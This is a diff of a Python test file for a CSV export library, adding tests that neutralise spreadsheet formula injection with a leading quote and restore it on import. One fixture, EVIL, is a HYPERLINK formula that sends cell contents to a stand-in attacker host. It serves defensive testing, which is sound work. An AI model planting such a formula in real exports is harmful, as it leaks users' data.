@@ -2,10 +2,11 @@
 
 Replays ``tests/vectors/exports/03_csv_formulas.json`` (format ``"otocore-exports-vector/1"``
 with ``csv_cells``: a ``customer`` as otocore's converter writes it, the ``expected`` cells of
-its CSV row and the ``line`` the CSV writer writes for it; and ``neutralise``: a ``cell`` and
-its ``expected`` neutralised form). The .xlsx file needs no rule: its cells are strings,
-never formulas (read back with openpyxl). The benchmark's hand-written anchor applies the
-same rule inline.
+its CSV row and the ``line`` the CSV writer writes for it; ``neutralise``: a ``cell`` and
+its ``expected`` neutralised form; and ``restore``: a ``cell`` and the value otocore's CSV
+import of customers reads it as). Each row of the vector imports back into its customer.
+The .xlsx file needs no rule: its cells are strings, never formulas (read back with
+openpyxl). The benchmark's hand-written anchor applies the same rule inline.
 """
 
 from __future__ import annotations
@@ -30,10 +31,12 @@ from otocore.exports import (
     COLUMNS,
     FORMULA_TRIGGERS,
     NEUTRALISED_COLUMNS,
+    QUOTE,
     ExportFormat,
     csv_cells,
     customer_cells,
     neutralise_formula,
+    restore_formula,
 )
 from otocore.importing import RecordKind, import_file
 from otocore.serialization import converter
@@ -43,6 +46,7 @@ VECTOR = Path(__file__).parent.parent / "vectors" / "exports" / "03_csv_formulas
 DATA = json.loads(VECTOR.read_text("utf-8"))
 CASES = DATA["csv_cells"]
 SINGLE = DATA["neutralise"]
+RESTORE = DATA["restore"]
 EVIL = '=HYPERLINK("http://evil.example/?d="&A1;"Clique")'
 
 
@@ -51,7 +55,10 @@ def test_the_vector_is_there_and_well_formed() -> None:
     assert tuple(DATA["columns"]) == COLUMNS
     assert len(CASES) >= 5
     assert len(SINGLE) >= 10
-    assert {c[:1] for c in (s["cell"] for s in SINGLE)} >= FORMULA_TRIGGERS
+    assert {c[:1] for c in (s["cell"] for s in SINGLE)} >= FORMULA_TRIGGERS | {QUOTE}
+    assert {c[1:2] for c in (s["cell"] for s in RESTORE) if c[:1] == QUOTE} >= (
+        FORMULA_TRIGGERS | {QUOTE, "", " "}
+    )
 
 
 @pytest.mark.parametrize("case", CASES, ids=lambda c: c["customer"]["customer_id"])
@@ -64,6 +71,10 @@ def test_a_csv_row_vector(case: dict[str, Any], tmp_path: Path) -> None:
     assert text.split("\r\n")[1] == case["line"]
     with path.open(encoding="utf-8-sig", newline="") as f:
         assert list(csv.reader(f, delimiter=";"))[1] == case["expected"]
+    database = InMemoryDatabase()  # and otocore's import reads the row back as the customer
+    import_file(database.unit_of_work(), path, RecordKind.CUSTOMERS)
+    with database.unit_of_work() as uow:
+        assert uow.customers.list() == [customer]
 
 
 @pytest.mark.parametrize("case", SINGLE, ids=lambda c: repr(c["cell"]))
@@ -71,12 +82,18 @@ def test_a_neutralise_vector(case: dict[str, str]) -> None:
     assert neutralise_formula(case["cell"]) == case["expected"]
 
 
+@pytest.mark.parametrize("case", RESTORE, ids=lambda c: repr(c["cell"]))
+def test_a_restore_vector(case: dict[str, str]) -> None:
+    assert restore_formula(case["cell"]) == case["expected"]
+
+
 @given(st.text())
 def test_a_neutralised_cell_never_starts_a_formula_and_loses_nothing(cell: str) -> None:
     out = neutralise_formula(cell)
     assert out[:1] not in FORMULA_TRIGGERS
     assert out in {cell, "'" + cell}
-    assert (out != cell) == (cell[:1] in FORMULA_TRIGGERS)
+    assert (out != cell) == (cell[:1] in FORMULA_TRIGGERS | {QUOTE})
+    assert restore_formula(out) == cell
 
 
 @given(customers(), st.sampled_from(NEUTRALISED_COLUMNS), st.sampled_from(sorted(FORMULA_TRIGGERS)))
@@ -142,16 +159,19 @@ def test_the_csv_neutralises_the_name_and_keeps_the_e164_mobile(tmp_path: Path) 
     assert row[6] == "+16502530000"
 
 
-def test_what_the_otocore_import_sees_in_a_neutralised_csv(tmp_path: Path) -> None:
-    # the quote is part of the cell: an importer (otocore's included) reads it as text;
-    # the typed columns, the mobile in E.164 among them, import back unchanged
+def test_the_otocore_import_takes_the_quote_off_a_neutralised_csv(tmp_path: Path) -> None:
+    # the quote is part of the cell for any other reader; otocore's import of customers takes
+    # its own quote off again, and the typed columns (the E.164 mobile too) come back unchanged
     path = tmp_path / "clientes.csv"
     write_customers(path, [_evil()], file_format=ExportFormat.CSV)
+    with path.open(encoding="utf-8-sig", newline="") as f:
+        assert list(csv.reader(f, delimiter=";"))[1][1] == "'" + EVIL
     database = InMemoryDatabase()
     import_file(database.unit_of_work(), path, RecordKind.CUSTOMERS)
     with database.unit_of_work() as uow:
         back = uow.customers.get("C1")
-    assert back.name == "'" + EVIL
+    assert back == _evil()
+    assert back.name == EVIL
     assert back.mobile == Mobile("+16502530000")
 
 
